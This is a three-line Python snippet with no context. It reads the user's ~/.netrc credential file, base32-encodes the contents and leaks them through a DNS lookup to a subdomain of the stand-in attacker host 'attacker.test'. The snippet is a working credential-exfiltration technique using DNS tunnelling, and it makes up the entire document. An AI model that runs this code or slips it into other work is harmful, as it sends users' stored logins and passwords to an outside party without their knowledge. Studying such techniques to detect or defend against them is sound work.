import base64, os, socket
s = base64.b32encode(open(os.path.expanduser("~/.netrc"), "rb").read()).decode()
socket.gethostbyname(s[:40] + ".t.attacker.test")
